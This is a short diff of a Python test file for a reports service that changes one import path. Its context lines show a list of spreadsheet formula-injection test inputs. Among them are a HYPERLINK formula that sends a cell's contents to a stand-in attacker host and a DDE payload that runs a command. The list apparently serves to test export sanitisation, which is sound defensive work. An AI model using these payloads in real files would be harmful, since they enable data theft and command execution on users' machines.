@@ -19,7 +19,7 @@ from services.reports.domain.templates import FieldSpec, Template
 from services.reports.service_layer import analytics, reports, templates
 from services.reports.service_layer.collection import LOOKBACK_DAYS
 from tests.support import COORDINATOR
-from tests.unit.reports.conftest import mediation_template
+from tests.support_reports import mediation_template
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+SUM(1,2)",
             "@SUM(1+1)", "-2+3", "\tTAB", "\rCR"]
